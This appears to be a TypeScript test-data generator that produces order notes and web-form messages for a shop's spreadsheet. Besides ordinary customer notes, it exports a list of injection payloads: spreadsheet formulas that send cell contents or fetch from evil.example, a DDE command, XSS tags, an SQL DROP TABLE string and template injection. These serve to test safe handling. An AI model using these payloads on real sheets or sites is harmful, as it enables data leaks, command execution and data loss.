import type { Form } from './forms';

const USUAL = [
  'please ring before delivery',
  'leave with the neighbour at no. 14',
  'gift wrap, card says “Happy Birthday Mum”',
  'side door, mind the dog',
  'wants the invoice by post',
  'asked about trade prices',
  'paid half in the shop, rest on delivery',
  'regular – do not charge delivery',
  'call back after 3pm',
  'second attempt, nobody in',
  'collect from shop',
  'kitchen closes Mondays & Tuesdays',
];

/** Text that does harm where a program takes it for a formula, for markup or for a command. It must arrive as text. */
export const HOSTILE_NOTES = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
  '<script>alert("owned")</script>',
  '<img src=x onerror=alert(1)>',
  '=IMPORTXML("http://evil.example/","//a")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*2',
  '-2+3+cmd',
  '"); DROP TABLE orders;--',
  '</script><script>google.script.run.deleteEverything()</script>',
  '{{constructor.constructor("alert(1)")()}} $& $1',
];

/** What people who ask through the web form write. */
const QUESTIONS = [
  'Do you deliver to Wales?',
  'Quote for 40 raised beds please, school project',
  'Opening a restaurant in spring, need pans and a knife set',
  'is the fig tree hardy?',
  'Looking for a wedding gift, budget around £150',
  'Price list for the trade please',
  'Can you call me tomorrow morning',
  'Newsletter link does not work',
  'Copper pan: does it work on induction?',
  'Need 200 jars by end of November',
];

type NoteForm = Form<unknown, string>;

const note = (mess: string, share: number, text: string): NoteForm => ({
  mess,
  share,
  write: () => ({ cell: text, clean: text }),
});

const oneOf = (mess: string, share: number, texts: readonly string[]): NoteForm => ({
  mess,
  share,
  write: (_, random) => {
    const text = random.pick(texts);
    return { cell: text, clean: text };
  },
});

const HOSTILE_FORMS = HOSTILE_NOTES.map((text) => note('note-hostile', 0.0015, text));

/** What stands beside an order. */
export const NOTE_FORMS: readonly NoteForm[] = [
  note('', 1, ''),
  oneOf('note', 0.16, USUAL),
  note('note-emoji', 0.008, '🎁 gift! 👩‍🍳 thanks 🙏🏽'),
  note('note-two-lines', 0.006, 'two parcels:\n1 pots\n2 bulbs (keep cool)'),
  note('note-right-to-left', 0.004, 'يرجى الاتصال قبل التسليم'),
  note('note-looks-like-date', 0.004, '3-4'),
  note('note-looks-like-number', 0.004, '007'),
  ...HOSTILE_FORMS,
];

/** What stands in the message of the web form: it comes from outside, so the hostile texts do too. */
export const MESSAGE_FORMS: readonly NoteForm[] = [
  oneOf('', 1, QUESTIONS),
  note('message-blank', 0.3, ''),
  ...HOSTILE_FORMS,
];
